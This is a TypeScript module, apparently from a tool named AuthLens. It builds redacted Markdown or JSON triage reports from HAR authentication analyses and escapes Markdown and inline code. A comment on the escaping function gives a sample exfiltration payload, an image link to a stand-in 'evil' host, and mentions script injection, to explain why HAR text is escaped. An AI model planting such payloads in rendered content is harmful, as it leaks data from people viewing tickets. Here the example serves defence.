import type { Analysis, EntryResult, Finding, FindingCode, FindingSeverity } from '../diagnose/finding.js';
import { FINDINGS, type FindingKnowledge } from '../knowledge/index.js';
import { Redactor, type RedactOptions } from './redactor.js';

/**
 * Triage report for a support ticket: a summary, then every request with findings.
 * Everything that came from the HAR (URLs, evidence) is redacted first, so the report can be pasted
 * into a ticket even when the HAR itself must not be shared.
 */
export interface ReportOptions extends RedactOptions {
  format: 'md' | 'json';
}

export interface ReportJson {
  /** Bumped only if the shape changes incompatibly. */
  reportVersion: 1;
  summary: {
    entries: number;
    creator: string | null;
    sanitized: boolean;
    /** Requests with at least one finding. */
    requestsWithFindings: number;
    bySeverity: Record<FindingSeverity, number>;
    /** Finding code → occurrences, most frequent first. */
    byCode: Record<string, number>;
  };
  requests: {
    index: number;
    method: string;
    /** Redacted. */
    url: string;
    status: number;
    startedDateTime: string | null;
    /** Evidence redacted. */
    findings: Finding[];
  }[];
}

/**
 * `analysis` is `analyzeHar(har)` (of the original or the redacted HAR); `har` supplies what the
 * analysis doesn't carry (start times). Returns Markdown or pretty JSON text.
 */
export function buildReport(analysis: Analysis, har: unknown, opts: ReportOptions): string {
  const data = reportData(analysis, har, opts);
  return opts.format === 'json' ? JSON.stringify(data, null, 2) + '\n' : toMarkdown(data);
}

export function reportData(analysis: Analysis, har: unknown, opts?: RedactOptions): ReportJson {
  const r = new Redactor(opts);
  const entries = harEntries(har);
  const bySeverity: Record<FindingSeverity, number> = { error: 0, warning: 0, info: 0 };
  const codes = new Map<string, number>();
  const requests = analysis.results.map((res: EntryResult) => {
    const entry = entries[res.index];
    const started = isObject(entry) && typeof entry.startedDateTime === 'string' ? entry.startedDateTime : null;
    return {
      index: res.index,
      method: res.method,
      url: r.url(res.url),
      status: res.status,
      startedDateTime: started,
      findings: res.findings.map((f: Finding) => {
        bySeverity[f.severity] = (bySeverity[f.severity] ?? 0) + 1;
        codes.set(f.code, (codes.get(f.code) ?? 0) + 1);
        const evidence = r.evidence(f.evidence);
        // The knowledge texts are ours, not the HAR's: redacting them only mangled them (`NTLM
        // handshake`, `credentials: "include"` read as secrets). What a rule added goes through.
        const k: FindingKnowledge | undefined = Object.hasOwn(FINDINGS, f.code) ? FINDINGS[f.code as FindingCode] : undefined;
        const own = (text: string, known: string | undefined) => (text === known ? text : r.text(text));
        return {
          code: f.code,
          severity: f.severity,
          title: own(f.title, k?.title),
          detail: k !== undefined && f.detail.endsWith(' ' + k.explanation) ? `${r.text(f.detail.slice(0, -k.explanation.length - 1))} ${k.explanation}` : own(f.detail, k?.explanation),
          evidence: (isObject(evidence) ? evidence : {}) as Record<string, unknown>,
          fix: { client: own(f.fix.client, k?.fix.client), server: own(f.fix.server, k?.fix.server) },
          refs: [...f.refs],
        };
      }),
    };
  });
  const byCode: Record<string, number> = {};
  for (const [code, n] of [...codes].sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))) byCode[code] = n;
  return {
    reportVersion: 1,
    summary: {
      entries: analysis.entries,
      creator: analysis.source.creator,
      sanitized: analysis.source.sanitized,
      requestsWithFindings: analysis.results.length,
      bySeverity,
      byCode,
    },
    requests,
  };
}

const SEVERITY_ICON: Record<FindingSeverity, string> = { error: 'ERROR', warning: 'WARNING', info: 'INFO' };

function toMarkdown(d: ReportJson): string {
  const s = d.summary;
  const lines: string[] = [];
  lines.push('# AuthLens triage report', '');
  lines.push(`- Entries in HAR: ${s.entries}`);
  lines.push(`- Exported by: ${s.creator === null ? 'unknown' : code(s.creator)}`);
  lines.push(
    `- Credentials in HAR: ${s.sanitized ? '**none** — the exporter probably sanitized it (Chrome strips Authorization and Cookie by default); missing credentials may be an artifact of the export' : 'present (redacted in this report)'}`,
  );
  lines.push(`- Requests with findings: ${s.requestsWithFindings}`);
  lines.push(`- Findings by severity: ${s.bySeverity.error} error, ${s.bySeverity.warning} warning, ${s.bySeverity.info} info`);
  lines.push('');
  const codes = Object.entries(s.byCode);
  if (codes.length > 0) {
    // The cause in words next to each code: whoever reads the ticket may not know the codes.
    lines.push('| Finding | Cause | Count |', '| --- | --- | ---: |');
    for (const [c, n] of codes) lines.push(`| ${code(c)} | ${escapeMd(FINDINGS[c as FindingCode]?.title ?? '')} | ${n} |`);
    lines.push('');
  } else {
    lines.push('No authentication problems found.', '');
  }
  for (const q of d.requests) {
    lines.push(`## #${q.index} ${escapeMd(q.method)} ${q.status === 0 ? '(no response)' : q.status}`, '');
    lines.push(`${code(q.url)}`, '');
    if (q.startedDateTime !== null) lines.push(`Started: ${code(q.startedDateTime)}`, '');
    for (const f of q.findings) {
      lines.push(`### ${SEVERITY_ICON[f.severity]} ${code(f.code)}: ${escapeMd(f.title)}`, '');
      if (f.detail !== '') lines.push(escapeMd(f.detail), '');
      if (Object.keys(f.evidence).length > 0) lines.push('Evidence:', '', fenced(JSON.stringify(f.evidence, null, 2), 'json'), '');
      if (f.fix.client !== '') lines.push(`- **Fix (client):** ${escapeMd(f.fix.client)}`);
      if (f.fix.server !== '') lines.push(`- **Fix (server):** ${escapeMd(f.fix.server)}`);
      if (f.refs.length > 0) lines.push(`- **References:** ${f.refs.map(escapeMd).join('; ')}`);
      lines.push('');
    }
  }
  lines.push('_Generated by AuthLens. Secrets are replaced by markers such as `[redacted:bearer len=40 #3fa9c2]`; equal hashes mean the same secret._');
  return lines.join('\n') + '\n';
}

/**
 * HAR text is attacker-controlled: in a ticket system, `![x](https://evil/?leak)` would load an
 * image and `<script>` might render. Outside code spans, what opens emphasis, code, links, images,
 * HTML, entities, strikethrough or a table cell is escaped everywhere (an image or link needs its
 * `[` and `]`); what only counts at the start of a line (a heading, list item or block quote) is
 * escaped there. Dates, versions and sentences keep their dots and dashes readable.
 */
function escapeMd(s: string): string {
  return s
    .replace(/\r?\n/g, ' ')
    .replace(/[\\`*_{}[\]<>~&|]/g, '\\$&')
    .replace(/^(\s*)(?:([#+=-])|(\d{1,9})([.)]))/, (_all, space: string, mark?: string, digits?: string, delimiter?: string) =>
      mark !== undefined ? `${space}\\${mark}` : `${space}${digits}\\${delimiter}`,
    );
}

/** Inline code span whose fence is longer than any backtick run inside (CommonMark §6.1). */
function code(s: string): string {
  const flat = s.replace(/\r?\n/g, ' ');
  const longest = Math.max(0, ...(flat.match(/`+/g) ?? []).map((m) => m.length));
  const fence = '`'.repeat(longest + 1);
  const pad = flat.startsWith('`') || flat.endsWith('`') || flat === '' ? ' ' : '';
  return fence + pad + flat + pad + fence;
}

function fenced(s: string, lang: string): string {
  const longest = Math.max(2, ...(s.match(/`+/g) ?? []).map((m) => m.length));
  const fence = '`'.repeat(longest + 1);
  return `${fence}${lang}\n${s}\n${fence}`;
}

function harEntries(har: unknown): unknown[] {
  if (!isObject(har) || !isObject(har.log) || !Array.isArray(har.log.entries)) return [];
  return har.log.entries;
}

function isObject(v: unknown): v is Record<string, unknown> {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}
